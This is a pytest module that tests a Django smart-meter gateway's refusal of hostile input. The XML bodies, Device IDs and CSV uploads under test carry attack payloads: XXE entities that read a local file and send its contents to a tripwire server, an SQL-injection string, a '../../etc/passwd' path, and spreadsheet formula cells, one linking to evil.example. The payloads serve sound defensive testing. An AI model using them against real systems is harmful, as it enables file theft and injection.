"""Issue 10 item 5: hostile input is refused with a clear message, writes nothing, and reads no file
and no network.

The gateway's own tests already cover DUIS with an external file entity, billion laughs, a wrong
namespace, a schema-invalid and a non-XML body (``tests/gateway/test_duis.py``); this module adds
parameter entities and external DTDs (watched by a local HTTP server), the size limit, a body that
never ends, and invalid Device IDs; then the CSV uploads (restriction bulk page, install-code bulk
page and API) and the neutralising of cells a spreadsheet would run as a formula.
"""
from __future__ import annotations

import csv
import io
import threading
import tracemalloc
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, RequestFactory

from gateway.duis.messages import MAX_MESSAGE_BYTES
from gateway.duis.views import DuisView
from gateway.models import ServiceRequestLog
from incidents.models import Incident, IncidentBulkJob
from incidents.services import BULK_MAX_ROWS as INCIDENT_BULK_MAX_ROWS
from inventory.choices import DeviceStatus
from inventory.models import RestrictionBulkJob, RestrictionChange
from inventory.services.restriction import BULK_JOB_MAX_ROWS as RESTRICTION_BULK_MAX_ROWS
from portal.models import OutboxMessage
from portal.services import api_token_issue
from tests.duis_samples import duis
from tests.factories import DeviceFactory, SupplierFactory, make_sms

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_password_hashing")]

FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)"]
TARGET = "00-DB-12-34-56-78-90-A2"


@pytest.fixture
def token(supplier_user) -> str:
    return api_token_issue(user=supplier_user, name="hostile")[1]


@pytest.fixture
def api(token):
    from rest_framework.test import APIClient

    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    return client


@pytest.fixture
def page(supplier_user) -> Client:
    client = Client()
    client.force_login(supplier_user)
    return client


@pytest.fixture
def tripwire():
    """An HTTP server that records any request: a parser fetching a DTD or an entity would show here."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'<!ENTITY % all "<!ENTITY leaked \'fetched\'>">')

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", hits
    server.shutdown()


def post_duis(api, data: bytes):
    return api.post("/duis/", data=data, content_type="application/xml")


# --- DUIS ---------------------------------------------------------------------------------------------

def request_body() -> bytes:
    return duis("8.2").split(b"?>", 1)[1]


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE sr:Request [<!ENTITY % remote SYSTEM "{url}/evil.dtd"> %remote; %all;]>',
    '<!DOCTYPE sr:Request SYSTEM "{url}/external.dtd">',
    '<!DOCTYPE sr:Request [<!ENTITY % file SYSTEM "file://{secret}"><!ENTITY % remote SYSTEM "{url}/?%file;">]>',
    '<!DOCTYPE sr:Request PUBLIC "-//EVIL//DTD//EN" "{url}/public.dtd">',
])
def test_parameter_entities_and_external_dtds_are_refused_without_touching_file_or_network(
        api, tripwire, tmp_path, doctype):
    url, hits = tripwire
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    data = b'<?xml version="1.0"?>' + doctype.format(url=url, secret=secret).encode() + request_body()

    response = post_duis(api, data)

    assert response.status_code == 400
    assert response.json()["code"] == "dtd_forbidden"
    assert b"TOP-SECRET" not in response.content and b"fetched" not in response.content
    assert hits == []
    assert not ServiceRequestLog.objects.exists()


def test_a_body_over_the_size_limit_is_refused_with_the_limit(api):
    data = request_body().replace(b"<sr:Request", b"<!--" + b"x" * (MAX_MESSAGE_BYTES + 1) + b"--><sr:Request", 1)

    response = post_duis(api, data)

    assert response.status_code == 400
    assert f"larger than {MAX_MESSAGE_BYTES // (1024 * 1024)} MB" in response.json()["detail"]
    assert not ServiceRequestLog.objects.exists()


class EndlessBody:
    """A client that claims a 10 GB body and never stops sending: the server must stop reading."""

    def __init__(self) -> None:
        self.read_total = 0

    def read(self, size: int = -1) -> bytes:
        if size is None or size < 0 or size > 64 * 1024 * 1024:
            raise AssertionError(f"the server asked for the whole body at once ({size} bytes)")
        self.read_total += size
        return b"x" * size

    def readline(self, size: int = -1) -> bytes:
        return self.read(size if size and size > 0 else 1024)


def test_an_endless_body_is_read_only_up_to_the_limit(token):
    body = EndlessBody()
    request = RequestFactory().post("/duis/", content_type="application/xml", HTTP_AUTHORIZATION=f"Token {token}",
                                    **{"wsgi.input": body, "CONTENT_LENGTH": str(10 * 1024 ** 3)})

    response = DuisView.as_view()(request)

    assert response.status_code == 400
    assert "larger than" in response.data["detail"]
    assert body.read_total <= MAX_MESSAGE_BYTES + 64 * 1024


@pytest.mark.parametrize("device_id", ["ZZ-DB-12-34-56-78-90-A2", "00-DB-12-34-56-78-90", "'; DROP TABLE x;--",
                                       "00-DB-12-34-56-78-90-A2-FF", "../../etc/passwd", "\u0660" * 16])
def test_invalid_device_ids_in_duis_are_refused(api, device_id):
    data = duis("8.2", {TARGET: device_id.replace("&", "&amp;").replace("<", "&lt;")})

    response = post_duis(api, data)

    # Was 400 JSON: since issue 16 a request readable as far as its header is answered with a DSP-signed DUIS
    # error document (E100, schema-invalid), and logged as refused; the hostile value is still never used.
    assert response.status_code == 200, response.content
    assert b"<sr:ResponseCode>E100</sr:ResponseCode>" in response.content
    row = ServiceRequestLog.objects.get()
    assert row.response_code == "E100" and "schema" in row.detail and row.device_id == ""


# --- restriction bulk CSV (page) -------------------------------------------------------------------

def upload(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="text/csv")


def restriction_csv(rows: list[list[str]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(("device_id", "restricted", "reason", "all_reasonable_steps_taken"))
    writer.writerows(rows)
    return buffer.getvalue()


def post_restriction_bulk(page, data: bytes):
    return page.post("/inventory/restrictions/bulk/", {"file": upload("changes.csv", data)}, follow=True)


def confirm_restriction_bulk(page):
    """The confirm step of the checked upload (since issue 19 item 7 the upload only checks the file)."""
    job = RestrictionBulkJob.objects.get()
    return page.post(f"/inventory/restrictions/bulk/{job.pk}/confirm/", follow=True)


def nothing_changed() -> bool:
    """The check step writes the job and nothing else."""
    return not (RestrictionChange.objects.exists() or OutboxMessage.objects.exists())


def download(response) -> str:
    return b"".join(response.streaming_content).decode()


def formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in "=+-@" and cell]


def nothing_written() -> bool:
    return not (RestrictionChange.objects.exists() or OutboxMessage.objects.exists() or RestrictionBulkJob.objects.exists())


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "latin-1"])
def test_restriction_bulk_in_another_encoding_is_refused_as_a_whole(page, supplier, encoding):
    meter = make_sms(supplier=supplier, gas=False)["ESME"]
    data = restriction_csv([[meter.device_id, "true", "Zoë's café refused", "true"]]).encode(encoding)

    response = post_restriction_bulk(page, data)

    assert response.status_code == 200
    assert "not UTF-8" in response.content.decode()
    assert nothing_written()


def test_restriction_bulk_with_a_byte_order_mark_is_read(page, supplier):
    meter = make_sms(supplier=supplier, gas=False)["ESME"]
    data = restriction_csv([[meter.device_id, "true", "Café owner refused", "true"]]).encode("utf-8-sig")

    checked = post_restriction_bulk(page, data)

    # The header's first cell is read as device_id despite the BOM: the row would be applied, nothing is yet.
    assert "Confirm and apply 1 row" in checked.content.decode()
    assert RestrictionBulkJob.objects.get().preview["outcomes"] == {"set": 1, "clear": 0, "refused": 0}
    assert nothing_changed()

    response = confirm_restriction_bulk(page)

    assert "1 of 1 rows applied" in response.content.decode()
    assert RestrictionChange.objects.get().reason == "Café owner refused"


def test_restriction_bulk_of_a_million_rows_is_refused_with_the_limit_and_writes_nothing(page, supplier):
    meter = make_sms(supplier=supplier, gas=False)["ESME"]
    line = f"{meter.device_id},true,Refused,true\n".encode()
    data = b"device_id,restricted,reason,all_reasonable_steps_taken\n" + line * 1_000_000

    tracemalloc.start()
    response = post_restriction_bulk(page, data)
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    # The page refuses any file over 12 MB before reading it (a million rows is ~37 MB).
    assert "The file is larger than 12 MB: split it into smaller files." in response.content.decode()
    assert nothing_written()
    assert peak < 4 * len(data), f"peak {peak / 2 ** 20:.0f} MiB for a {len(data) / 2 ** 20:.0f} MiB upload"


def test_restriction_bulk_over_the_row_limit_is_refused_with_the_limit_and_writes_nothing(page, supplier):
    meter = make_sms(supplier=supplier, gas=False)["ESME"]
    data = restriction_csv([[meter.device_id, "true", "Refused", "true"]] * (RESTRICTION_BULK_MAX_ROWS + 1)).encode()

    response = post_restriction_bulk(page, data)

    assert f"The file has more than {RESTRICTION_BULK_MAX_ROWS:,} rows" in response.content.decode()
    assert nothing_written()


def test_restriction_bulk_malformed_lines_get_row_messages_and_only_whole_rows_are_written(page, supplier):
    good, extra, short = (make_sms(supplier=supplier, gas=False)["ESME"] for _ in range(3))
    data = (
        "device_id,restricted,reason,all_reasonable_steps_taken\n"
        f"{good.device_id},true,Refused,true\n"
        f"{extra.device_id},true,Refused,true,surprise,cells\n"
        f"{short.device_id},true\n"
        f'{extra.device_id},"true,Refused,true\n'  # a quote that never closes swallows the rest
    ).encode()

    checked = post_restriction_bulk(page, data)

    job = RestrictionBulkJob.objects.get()
    assert job.preview["outcomes"] == {"set": 1, "clear": 0, "refused": 3}
    assert sorted(row for reason in job.preview["reasons"] for row in reason["rows"]) == [3, 4, 5]  # header = row 1
    assert "Confirm and apply 1 row" in checked.content.decode() and nothing_changed()

    response = confirm_restriction_bulk(page)
    text = response.content.decode()

    assert "1 of 4 rows applied; 3 refused" in text
    refused = job.results.filter(ok=False).order_by("row_number")
    assert [row.row_number for row in refused] == [3, 4, 5] and all(row.code and row.detail for row in refused)
    assert list(RestrictionChange.objects.values_list("device__device_id", flat=True)) == [good.device_id]
    extra.refresh_from_db()
    short.refresh_from_db()
    assert not extra.restricted and not short.restricted


def test_restriction_bulk_results_and_history_csv_neutralise_formulas(page, supplier):
    meter = make_sms(supplier=supplier, gas=False)["ESME"]
    rows = [[formula, "true", "x", "true"] for formula in FORMULAS]
    rows.append([meter.device_id, "true", FORMULAS[0], "true"])

    post_restriction_bulk(page, restriction_csv(rows).encode())
    job = RestrictionBulkJob.objects.get()
    checked_refused = download(page.get(f"/inventory/restrictions/bulk/{job.pk}/refused-rows.csv"))
    confirm_restriction_bulk(page)
    results = download(page.get(f"/inventory/restrictions/bulk/{job.pk}/results.csv"))
    refused = download(page.get(f"/inventory/restrictions/bulk/{job.pk}/refused-rows.csv"))
    history = download(page.get(f"/inventory/devices/{meter.device_id}/restriction-history.csv"))

    assert RestrictionChange.objects.get().reason == FORMULAS[0]  # stored as given, neutralised on the way out
    assert len(list(csv.reader(io.StringIO(refused)))) == len(FORMULAS) + 1  # the header and every refused row
    for text in (checked_refused, results, refused, history):
        assert not formula_cells(text), text


# --- install-code bulk CSV (page and API) ----------------------------------------------------------

@pytest.fixture
def installer():
    return SupplierFactory(code="HOSI")


def raisable(supplier, installer, count: int = 1) -> list[str]:
    return [DeviceFactory(status=DeviceStatus.INSTALLED_NOT_COMMISSIONED, date_commissioned=None,
                          responsible_supplier=supplier, prenotifying_supplier=installer).device_id
            for _ in range(count)]


def post_incident_bulk_api(api, data: bytes):
    return api.post("/api/v1/incidents/install-code-requests/bulk/", {"file": upload("ids.csv", data)},
                    format="multipart")


@pytest.mark.parametrize("encoding", ["utf-16", "latin-1"])
def test_install_code_bulk_in_another_encoding_is_refused_as_a_whole(api, page, supplier, installer, encoding):
    (device_id,) = raisable(supplier, installer)
    data = f"device_id,comment\n{device_id},Zoë\n".encode(encoding)

    response = post_incident_bulk_api(api, data)
    on_page = page.post("/incidents/install-code-requests/bulk/", {"file": upload("ids.csv", data)})

    assert response.status_code == 400 and response.json()["code"] == "bad_encoding"
    assert "not UTF-8" in response.json()["detail"] and "not UTF-8" in on_page.content.decode()
    assert not Incident.objects.exists() and not IncidentBulkJob.objects.exists()


def test_install_code_bulk_with_a_byte_order_mark_is_read(api, supplier, installer):
    (device_id,) = raisable(supplier, installer)
    response = post_incident_bulk_api(api, f"device_id\n{device_id}\n".encode("utf-8-sig"))
    assert response.status_code == 200 and response.json()["results"][0]["ok"] is True


@pytest.mark.parametrize("channel", ["api", "page"])
def test_install_code_bulk_of_a_million_rows_is_refused_with_the_limit_and_writes_nothing(
        api, page, supplier, installer, channel):
    (device_id,) = raisable(supplier, installer)
    data = b"device_id\n" + f"{device_id}\n".encode() * 1_000_000

    tracemalloc.start()
    if channel == "api":
        response = post_incident_bulk_api(api, data)
        detail = response.json()["detail"]
        assert response.status_code == 400
    else:
        response = page.post("/incidents/install-code-requests/bulk/", {"file": upload("ids.csv", data)})
        detail = response.content.decode()
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert f"At most {INCIDENT_BULK_MAX_ROWS:,} rows" in detail
    assert not Incident.objects.exists() and not IncidentBulkJob.objects.exists()
    assert peak < 4 * len(data), f"peak {peak / 2 ** 20:.0f} MiB for a {len(data) / 2 ** 20:.0f} MiB upload"


def test_install_code_bulk_with_a_nul_byte_is_refused_whole_and_raises_nothing(page, supplier, installer):
    (device_id,) = raisable(supplier, installer)
    data = f"device_id\n{device_id}\n00-DB\x00-12\n".encode()

    response = page.post("/incidents/install-code-requests/bulk/", {"file": upload("ids.csv", data)}, follow=True)

    # Refused at the check step, before any job is recorded; the row is the spreadsheet's (the header is row 1).
    assert response.status_code == 200 and "Row 3 contains a NUL character" in response.content.decode()
    assert not Incident.objects.exists() and not IncidentBulkJob.objects.exists()


def test_install_code_bulk_malformed_and_formula_rows_get_row_messages_and_a_safe_results_csv(
        page, supplier, installer):
    (device_id,) = raisable(supplier, installer)
    data = ("device_id,comment\n" + f"{device_id},ok\n" + "".join(f'"{f.replace(chr(34), chr(34) * 2)}",x\n'
                                                                   for f in FORMULAS)
            + 'not-a-device,"unterminated\n').encode()

    checked = page.post("/incidents/install-code-requests/bulk/", {"file": upload("ids.csv", data)}, follow=True)
    job = IncidentBulkJob.objects.get()
    assert checked.status_code == 200 and not Incident.objects.exists()  # the check raises nothing
    assert job.preview["outcomes"] == {"raise": 1, "existing": 0, "refused": len(FORMULAS) + 1}
    checked_refused = download(page.get(f"/incidents/install-code-requests/bulk/{job.pk}/refused-rows.csv"))

    response = page.post(f"/incidents/install-code-requests/bulk/{job.pk}/confirm/", follow=True)
    job.refresh_from_db()
    results = download(page.get(f"/incidents/install-code-requests/bulk/{job.pk}/results.csv"))
    refused = download(page.get(f"/incidents/install-code-requests/bulk/{job.pk}/refused-rows.csv"))
    rows = list(csv.reader(io.StringIO(results)))

    assert response.status_code == 200
    assert Incident.objects.count() == 1 and job.created_count == 1 and job.failed_count == len(FORMULAS) + 1
    assert len(rows) == len(FORMULAS) + 3 and all(row[5] for row in rows[2:]), rows  # every refused row says why
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(2, len(FORMULAS) + 4)]  # spreadsheet rows
    for text in (checked_refused, results, refused):
        assert not formula_cells(text), text
